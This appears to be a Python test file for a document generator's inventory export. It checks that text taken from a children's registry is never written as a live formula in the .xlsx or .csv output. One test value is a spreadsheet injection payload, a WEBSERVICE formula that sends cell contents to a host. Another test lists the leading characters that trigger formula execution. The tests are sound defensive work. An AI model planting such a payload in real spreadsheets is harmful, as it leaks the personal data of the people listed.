"""docgen.output.manifest: the inventory never turns registry text into a formula, in .xlsx or
in .csv (children's data stays where it belongs)."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

import openpyxl

from docgen import api
from tests.helpers import EXAMPLE, find_cell

AS_OF = date(2026, 11, 23)
INJECTION = '=WEBSERVICE("http://127.0.0.1:9/?"&E2&E3)'


def registry_with_text(tmp_path: Path, sheet: str, cell: str, text: str) -> Path:
    """A copy of the example whose cell holds ``text`` as text (typed with an apostrophe in Excel)."""
    wb = openpyxl.load_workbook(EXAMPLE)
    wb[sheet][cell].value = text
    wb[sheet][cell].data_type = "s"
    wb.save(tmp_path / "r.xlsx")
    return tmp_path / "r.xlsx"


def test_a_formula_in_a_registry_cell_stays_text_in_the_inventory(tmp_path):
    reg = registry_with_text(tmp_path, "Наставляемые", find_cell(EXAMPLE, "Наставляемые", "ФИО", 2),
                             INJECTION + " Алексеева Таисия Романовна")
    assert api.check(reg, as_of=AS_OF) == []  # the registry is fine: the text is a (strange) name
    result = api.make(["consent_tracking"], reg, tmp_path / "out", as_of=AS_OF)
    xlsx = next(p for p in result.manifest if p.suffix == ".xlsx")
    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet, "a registry text became a live formula"
    wb = openpyxl.load_workbook(xlsx)
    assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
    with open(next(p for p in result.manifest if p.suffix == ".csv"), encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh, delimiter=";") for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a CSV cell a spreadsheet would run"


def test_csv_guard_covers_every_dangerous_start():
    from docgen.output.manifest import as_text

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert as_text(text).startswith("'")
    assert as_text("Иванов") == "Иванов"
